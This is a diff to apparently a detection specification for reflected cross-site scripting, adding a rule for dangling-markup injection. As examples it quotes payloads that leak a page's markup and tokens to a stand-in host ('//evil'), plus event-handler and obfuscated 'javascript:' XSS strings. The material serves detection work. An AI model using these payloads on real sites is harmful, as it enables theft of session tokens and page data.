@@ -8,7 +8,11 @@ JavaScript, the contexts a reflected value lands in.
   attribute whose value, entity-decoded and with the tabs and line breaks a browser drops
   removed, starts with `javascript:` / `vbscript:` / an HTML or script `data:` URL
   (`jav&#x09;ascript:`), `srcdoc`, or a style with `expression(...)` / a script URL; or when
-  the tag is `<script`.
+  the tag is `<script`. Also dangling markup, in a parameter, header, cookie or path (a JSON
+  or XML document may carry a page's markup as it is): a URL attribute whose value, on
+  another host, runs on over the page's own markup (its quote never closes, or the quoted
+  value holds the next tag: `<img src='//evil/?`, `<body background="//evil? <table`), which
+  sends that markup, tokens and all, to the remote host.
 * **Attributes** (a value reflected inside a tag, quoted or not): an event handler whose value
   is code, after a quote, white space or `/`, wherever in the value
   (`" autofocus onfocus=alert(1) x="`, `onanimationiteration="alert(1)">`).
